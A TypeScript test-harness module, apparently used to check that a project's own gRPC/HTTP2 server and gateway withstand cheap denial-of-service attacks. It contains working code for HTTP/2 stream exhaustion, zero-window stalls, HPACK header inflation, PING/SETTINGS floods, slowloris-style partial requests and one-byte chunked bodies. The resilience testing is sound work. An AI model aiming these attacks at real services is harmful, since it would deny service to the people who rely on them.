/**
 * Attacks that cost the attacker little: a few bytes, a few connections, no token for most. Each
 * shape is what an adversarial review found could take a process down or starve its other
 * callers, run as its own process (so the test's own process, which measures the stack, carries
 * none of its load) by {@link cheapAttack}:
 *
 * - `open-streams`: connections each opening 100 gRPC streams (HEADERS without END_STREAM) and
 *   sending no body, held open;
 * - `unread-answers`: connections that set a zero stream window (SETTINGS INITIAL_WINDOW_SIZE 0),
 *   keep opening calls and never read what comes back;
 * - `budget-prefix`: one gRPC connection whose two streams declare a 4 MiB and a 2 MiB message in
 *   their 5-byte length prefixes (a few hundred bytes in all), then send a byte now and then;
 * - `gateway-heads`: HTTP connections each holding 63 KiB of a request head that never ends;
 * - `gateway-declared`: POSTs (with a token) that declare a 1 MiB body and send none of it;
 * - `hpack`: connections each sending one header block with a ~64 KiB Huffman-coded value, each
 *   of another length;
 * - `control-flood`: connections sending PING and SETTINGS frames as fast as they can, never
 *   reading the acknowledgements;
 * - `chunks`: an HTTP POST whose chunked body is made of one-byte chunks;
 * - `idle`: HTTP connections that never send a byte.
 *
 * Run as a script, it reads an {@link AttackSpec} as JSON on stdin and writes an
 * {@link AttackResult} as JSON on stdout.
 *
 * @module
 */

import hpack from "hpack.js";
import { Flag, frame, FrameType, hpackEncode, preface, Setting } from "../transport/mod.ts";

/** The shapes of attack. */
export type AttackShape =
  | "open-streams"
  | "unread-answers"
  | "budget-prefix"
  | "gateway-heads"
  | "gateway-declared"
  | "hpack"
  | "control-flood"
  | "chunks"
  | "idle";

/** One attack. */
export interface AttackSpec {
  shape: AttackShape;
  /** `host:port` of the target (a gRPC port, or the gateway's). */
  target: string;
  /** Connections (or, for `chunks`, thousands of one-byte chunks). */
  count: number;
  /** How long to hold or repeat the attack, in seconds. */
  seconds: number;
  /** A gRPC method path (`/pkg.Service/Method`) for the shapes that call one. */
  path?: string;
  /** A bearer token, for the shapes that need one. */
  token?: string;
}

/** What the attacker saw. */
export interface AttackResult {
  /** Connections it opened. */
  opened: number;
  /** Connections the server closed before the attack ended. */
  closedByServer: number;
  /** Bytes it sent. */
  sent: number;
  /** What the server answered, when the shape reads answers (an HTTP status line, say). */
  answers: Record<string, number>;
}

/** Runs one attack in its own process. */
export async function cheapAttack(spec: AttackSpec): Promise<AttackResult> {
  const child = new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "--allow-net",
      "--allow-read",
      "--allow-env",
      new URL("./cheap_attacks_main.ts", import.meta.url).pathname,
    ],
    stdin: "piped",
    stdout: "piped",
    stderr: "inherit",
    env: { LD_PRELOAD: "" },
  }).spawn();
  const writer = child.stdin.getWriter();
  await writer.write(new TextEncoder().encode(JSON.stringify(spec)));
  await writer.close();
  const out = await child.output();
  if (!out.success) {
    throw new Error(
      `the ${spec.shape} attack failed to run (exit code ${out.code}, signal ${out.signal})`,
    );
  }
  return JSON.parse(new TextDecoder().decode(out.stdout));
}

// --- the attacks (run in the child) -----------------------------------------------------------

const encoder = new TextEncoder();

function settings(pairs: [number, number][]): Uint8Array {
  const payload = new Uint8Array(6 * pairs.length);
  const view = new DataView(payload.buffer);
  pairs.forEach(([id, value], i) => {
    view.setUint16(6 * i, id);
    view.setUint32(6 * i + 2, value);
  });
  return frame(FrameType.SETTINGS, 0, 0, payload);
}

/** A request's header block: a gRPC call to `path`. */
function grpcHeaders(path: string, token?: string): Uint8Array {
  return hpackEncode([
    [":method", "POST"],
    [":scheme", "http"],
    [":path", path],
    [":authority", "attacker"],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
    ...(token ? [["authorization", `Bearer ${token}`] as [string, string]] : []),
  ]);
}

/** A connection that tracks whether the server closed it, and counts what was written. */
class Attacker {
  closed = false;
  sent = 0;
  constructor(readonly conn: Deno.TcpConn, read: boolean) {
    if (read) {
      (async () => {
        const buffer = new Uint8Array(16 * 1024);
        try {
          while ((await conn.read(buffer)) !== null) { /* discard */ }
        } catch { /* a reset is a close */ }
        this.closed = true;
      })();
    }
  }

  /** Writes, as far as the server lets it; false once the connection is gone. */
  async write(bytes: Uint8Array): Promise<boolean> {
    try {
      let offset = 0;
      while (offset < bytes.length) offset += await this.conn.write(bytes.subarray(offset));
      this.sent += bytes.length;
      return true;
    } catch {
      this.closed = true;
      return false;
    }
  }

  close(): void {
    try {
      this.conn.close();
    } catch { /* closed */ }
  }
}

async function connect(target: string, read = true): Promise<Attacker> {
  const [hostname, port] = target.split(":");
  const conn = await Deno.connect({ hostname: hostname!, port: Number(port) });
  conn.setNoDelay(true);
  return new Attacker(conn, read);
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
/** A sleep that does not keep the process alive (for races: the attack may be over first). */
const pause = (ms: number) =>
  new Promise((r) => {
    const timer = setTimeout(r, ms);
    Deno.unrefTimer(timer);
  });

/** Opens `count` connections (in batches) and runs `each` on every one. */
async function many(
  spec: AttackSpec,
  options: { read?: boolean },
  each: (a: Attacker, index: number) => Promise<void>,
): Promise<Attacker[]> {
  const all: Attacker[] = [];
  for (let i = 0; i < spec.count; i += 100) {
    const batch = await Promise.all(
      Array.from(
        { length: Math.min(100, spec.count - i) },
        () => connect(spec.target, options.read ?? true).catch(() => undefined),
      ),
    );
    for (const a of batch) if (a) all.push(a);
  }
  await Promise.all(all.map((a, i) => each(a, i).catch(() => {})));
  return all;
}

async function h2Start(a: Attacker, extra: [number, number][] = []): Promise<boolean> {
  return await a.write(concatAll([preface, settings(extra)]));
}

function concatAll(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

function result(all: Attacker[], answers: Record<string, number> = {}): AttackResult {
  return {
    opened: all.length,
    closedByServer: all.filter((a) => a.closed).length,
    sent: all.reduce((n, a) => n + a.sent, 0),
    answers,
  };
}

function release(all: Attacker[]): void {
  for (const a of all) a.close();
}

const healthCheck = "/grpc.health.v1.Health/Check";

async function openStreams(spec: AttackSpec): Promise<AttackResult> {
  const block = grpcHeaders(spec.path ?? healthCheck, spec.token);
  const all = await many(spec, {}, async (a) => {
    if (!(await h2Start(a))) return;
    const frames: Uint8Array[] = [];
    for (let id = 1; id < 200; id += 2) {
      frames.push(frame(FrameType.HEADERS, Flag.END_HEADERS, id, block));
    }
    await a.write(concatAll(frames));
  });
  await sleep(spec.seconds * 1000);
  release(all);
  return result(all);
}

async function unreadAnswers(spec: AttackSpec): Promise<AttackResult> {
  // A valid health check request: an empty message.
  const body = frame(FrameType.DATA, Flag.END_STREAM, 0, new Uint8Array(5));
  const block = grpcHeaders(spec.path ?? healthCheck, spec.token);
  const until = performance.now() + spec.seconds * 1000;
  const all = await many(spec, { read: false }, async (a) => {
    if (!(await h2Start(a, [[Setting.INITIAL_WINDOW_SIZE, 0]]))) return;
    for (let id = 1; performance.now() < until && id < 2 ** 31 - 2; id += 2) {
      const data = body.slice();
      data[5] = (id >>> 24) & 0x7f;
      data[6] = id >>> 16;
      data[7] = id >>> 8;
      data[8] = id;
      // Unread answers fill the socket; the write then waits, as a real non-reader's would.
      const sent = await Promise.race([
        a.write(concatAll([frame(FrameType.HEADERS, Flag.END_HEADERS, id, block), data])),
        pause(2000).then(() => true),
      ]);
      if (!sent) return;
      if (id % 200 === 199) await sleep(1);
    }
  });
  await sleep(Math.max(0, until - performance.now()));
  release(all);
  return result(all);
}

async function budgetPrefix(spec: AttackSpec): Promise<AttackResult> {
  const block = grpcHeaders(spec.path!, spec.token);
  const prefix = (length: number) => {
    const p = new Uint8Array(5);
    new DataView(p.buffer).setUint32(1, length);
    return p;
  };
  const until = performance.now() + spec.seconds * 1000;
  const all = await many(spec, {}, async (a) => {
    if (!(await h2Start(a))) return;
    await a.write(concatAll([
      frame(FrameType.HEADERS, Flag.END_HEADERS, 1, block),
      frame(FrameType.DATA, 0, 1, prefix(4 * 1024 * 1024)),
      frame(FrameType.HEADERS, Flag.END_HEADERS, 3, block),
      frame(FrameType.DATA, 0, 3, prefix(2 * 1024 * 1024)),
    ]));
    // A body byte now and then, to look alive.
    while (performance.now() < until && !a.closed) {
      await sleep(1000);
      await a.write(frame(FrameType.DATA, 0, 1, new Uint8Array(1)));
    }
  });
  release(all);
  return result(all);
}

async function gatewayHeads(spec: AttackSpec): Promise<AttackResult> {
  const head = encoder.encode(`GET /readyz HTTP/1.1\r\nHost: x\r\nX-Pad: ${"p".repeat(63 * 1024)}`);
  const all = await many(spec, {}, async (a) => {
    await a.write(head);
  });
  await sleep(spec.seconds * 1000);
  release(all);
  return result(all);
}

async function gatewayDeclared(spec: AttackSpec): Promise<AttackResult> {
  const head = encoder.encode(
    `POST ${spec.path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${spec.token}\r\n` +
      `Content-Type: application/json\r\nContent-Length: ${1024 * 1024}\r\n\r\n{"name":"`,
  );
  const all = await many(spec, {}, async (a) => {
    await a.write(head);
  });
  await sleep(spec.seconds * 1000);
  release(all);
  return result(all);
}

async function hpackInflate(spec: AttackSpec): Promise<AttackResult> {
  const all = await many(spec, {}, async (a, index) => {
    if (!(await h2Start(a))) return;
    const compressor = hpack.compressor.create({ table: { size: 4096 } });
    compressor.write([
      { name: ":method", value: "POST", huffman: true },
      { name: ":path", value: healthCheck, huffman: true },
      { name: "x-big", value: "a".repeat(100_000 + index), huffman: true },
    ]);
    const parts: Uint8Array[] = [];
    let chunk;
    while ((chunk = compressor.read()) !== null) parts.push(new Uint8Array(chunk));
    const block = concatAll(parts);
    const frames: Uint8Array[] = [];
    for (let at = 0; at < block.length; at += 16_384) {
      const last = at + 16_384 >= block.length;
      frames.push(
        frame(
          at === 0 ? FrameType.HEADERS : FrameType.CONTINUATION,
          last ? Flag.END_HEADERS : 0,
          1,
          block.subarray(at, at + 16_384),
        ),
      );
    }
    await a.write(concatAll(frames));
  });
  await sleep(spec.seconds * 1000);
  release(all);
  return result(all);
}

async function controlFlood(spec: AttackSpec): Promise<AttackResult> {
  const burst: Uint8Array[] = [];
  for (let i = 0; i < 512; i++) {
    burst.push(frame(FrameType.PING, 0, 0, new Uint8Array(8)));
    if (i % 8 === 0) burst.push(settings([]));
  }
  const bytes = concatAll(burst);
  const until = performance.now() + spec.seconds * 1000;
  const all = await many(spec, { read: false }, async (a) => {
    if (!(await h2Start(a))) return;
    // One write at a time: a write that the server does not take is waited for (in steps, so
    // that the attack still ends on time), never written over by another one.
    let pending: Promise<boolean> | undefined;
    while (performance.now() < until) {
      pending ??= a.write(bytes);
      const sent = await Promise.race([pending, pause(1000).then(() => undefined)]);
      if (sent === false) return;
      if (sent === true) pending = undefined;
    }
  });
  release(all);
  return result(all);
}

async function chunks(spec: AttackSpec): Promise<AttackResult> {
  const a = await connect(spec.target, false);
  const answer: Record<string, number> = {};
  const reading = (async () => {
    const buffer = new Uint8Array(4096);
    let text = "";
    try {
      let n;
      while ((n = await a.conn.read(buffer)) !== null) {
        text += new TextDecoder().decode(buffer.subarray(0, n));
        if (text.includes("\r\n")) break;
      }
    } catch { /* closed */ }
    const status = /^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? "none";
    answer[status] = 1;
    a.closed = true;
  })();
  await a.write(encoder.encode(
    `POST ${spec.path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${spec.token}\r\n` +
      "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
  ));
  const piece = encoder.encode("1\r\na\r\n".repeat(1000));
  const until = performance.now() + spec.seconds * 1000;
  for (let i = 0; i < spec.count && !a.closed && performance.now() < until; i++) {
    if (!(await a.write(piece))) break;
  }
  await a.write(encoder.encode("0\r\n\r\n"));
  await Promise.race([reading, pause(spec.seconds * 1000)]);
  a.close();
  return result([a], answer);
}

async function idle(spec: AttackSpec): Promise<AttackResult> {
  const all = await many(spec, {}, async () => {});
  await sleep(spec.seconds * 1000);
  release(all);
  return result(all);
}

const shapes: Record<AttackShape, (spec: AttackSpec) => Promise<AttackResult>> = {
  "open-streams": openStreams,
  "unread-answers": unreadAnswers,
  "budget-prefix": budgetPrefix,
  "gateway-heads": gatewayHeads,
  "gateway-declared": gatewayDeclared,
  hpack: hpackInflate,
  "control-flood": controlFlood,
  chunks,
  idle,
};

/** Runs the attack `spec` describes, here (the attacker process, ./cheap_attacks_main.ts). */
export function runAttack(spec: AttackSpec): Promise<AttackResult> {
  return shapes[spec.shape](spec);
}
